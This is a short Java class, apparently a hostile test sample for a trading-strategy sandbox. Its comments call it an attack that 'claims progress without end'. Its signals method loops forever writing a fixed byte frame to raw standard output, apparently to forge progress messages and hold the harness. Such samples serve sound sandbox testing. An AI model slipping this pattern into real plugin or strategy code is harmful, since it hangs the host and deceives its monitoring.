// attack: claims progress without end
// held: by the link
// exit: None
// says: the strategy
import io.opentrade.strategy.*;

public class ForgeProgress implements Strategy {
  @Override
  public Plan signals(Data d) {
    try {
      var link = new java.io.FileOutputStream(java.io.FileDescriptor.out);
      for (; ; ) {
        link.write(new byte[] {0, 0, 0, 5, 19, 0, 0, 0, 7});
        link.flush();
      }
    } catch (Exception failure) {
      throw new IllegalStateException("held: " + failure);
    }
  }
}
